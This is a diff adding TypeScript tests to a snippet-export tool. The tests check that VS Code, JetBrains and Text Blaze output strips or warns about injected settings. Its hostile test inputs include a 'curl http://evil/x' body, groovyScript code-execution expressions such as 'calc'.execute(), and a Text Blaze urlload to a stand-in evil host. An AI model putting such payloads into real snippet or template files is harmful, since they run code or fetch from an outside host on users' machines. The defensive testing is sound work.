@@ -239,3 +239,101 @@ test("Alfred and TextExpander ask for no values and escape nothing, which is sai
     "1 snippet contains TextExpander codes, such as %|. TextExpander replaces them when you insert the snippet.",
   ]);
 });
+
+test("a note cannot replace what VS Code inserts, shows, or listens to, and what it cannot say is named", () => {
+  const note = [
+    "For refunds",
+    "",
+    "```vscode",
+    ...[
+      "body: curl http://evil/x",
+      "prefix: ls",
+      "description: Harmless",
+      "isFileTemplate: true",
+      "scope: [1]",
+      "luasnip: {a: 1}",
+    ],
+    "```",
+  ].join("\n");
+  const snippet = snippetOf("harmless text", { note });
+  expect(JSON.parse(Object.values(written("vscode", snippet))[0] ?? "")).toEqual({
+    A: { prefix: "a", body: "harmless text", description: "For refunds", isFileTemplate: true },
+  });
+  expect(warned("vscode", snippet)).toEqual([
+    'Settings in notes that VS Code would not understand are left out: body of "A", prefix of "A", description of "A", scope of "A", and luasnip of "A".',
+  ]);
+});
+
+test("JetBrains gets only variables whose functions compute a text, and settings that it understands", () => {
+  const expressionsOf = (...expressions: string[]) => {
+    const variables = expressions.map((expression, index) => ({
+      name: `V${index}`,
+      expression,
+      defaultValue: expression,
+    }));
+    const note = `\`\`\`jetbrains\n${JSON.stringify({ isTemplate: true, variables })}\n\`\`\``;
+    const [xml = ""] = Object.values(written("jetbrains", snippetOf("$V0$", { note })));
+    return Array.from(xml.matchAll(/expression="([^"]*)" defaultValue="([^"]*)"/g), ([, one, other]) => [one, other]);
+  };
+  const harmless = [
+    "",
+    "complete()",
+    "date(V1)",
+    "concat(V1,V2, user())",
+    "camelCase(clipboard())",
+    "V1",
+    "suggestVariableName()",
+  ];
+  expect(expressionsOf(...harmless)).toEqual(harmless.map((each) => [each, each]));
+  expect(expressionsOf('"a (b"', String.raw`regularExpression(V1, "\\s", "")`).flat()).not.toContain("");
+  const hostile = [
+    `groovyScript("'calc'.execute()")`,
+    `concat("a", groovyScript("1"))`,
+    `GroovyScript("1")`,
+    `groovyScript ( "1")`,
+    `"a" groovyScript("1")`,
+    String.raw`concat("\\", "groovyScript(", ")`,
+    "unknown()",
+    "complete(",
+    "date()x",
+    "a.b()",
+    `date(${"concat(".repeat(50)}`,
+  ];
+  expect(expressionsOf(...hostile)).toEqual(hostile.map(() => ["", ""]));
+  const settings = {
+    value: "$x$",
+    name: "ls",
+    description: "d",
+    toReformat: "true",
+    "on load": "x",
+    variables: [{ name: "a b" }, 1],
+  };
+  const snippet = snippetOf("harmless $ text", { note: `\`\`\`jetbrains\n${JSON.stringify(settings)}\n\`\`\`` });
+  expect(Object.values(written("jetbrains", snippet))[0]).toContain(
+    '<template name="a" value="harmless $$ text" description="A" toReformat="true" toShortenFQNames="true">\n    <context>',
+  );
+  expect(warned("jetbrains", snippet)).toEqual([
+    'Settings in notes that JetBrains would not understand are left out: value of "A", name of "A", description of "A", on load of "A", and variables of "A".',
+  ]);
+  const script = [{ name: "V", expression: 'groovyScript("1")' }];
+  expect(
+    warned("jetbrains", snippetOf("x", { note: `\`\`\`jetbrains\n${JSON.stringify({ variables: script })}\n\`\`\`` })),
+  ).toEqual(['Expressions that could run code are left out: $V$ of "A". JetBrains asks for their values.']);
+});
+
+test("commands of Text Blaze are named in several lines and within others, too", () => {
+  for (const [text, example] of [
+    ["a {urlload:\nhttps://evil/{=x}; done=x} b", "{urlload: https://evil/"],
+    ["{ Click }", "{ Click }"],
+    ["{=1+{x}}", "{=1+"],
+  ] as const)
+    expect(warned("textblaze", snippetOf(text))).toEqual([
+      `1 snippet contains commands, such as ${example}. Text Blaze replaces them when you insert the snippet.`,
+    ]);
+});
+
+test("what XML cannot represent is left out of files for JetBrains, and the others stay", () => {
+  const snippet = snippetOf("a\u0007b\u0085c\ufffe");
+  expect(Object.values(written("jetbrains", snippet))[0]).toContain('value="ab&#133;c"');
+  expect(warned("jetbrains", snippet)).toEqual(['XML cannot represent some control characters (left out of "A").']);
+});
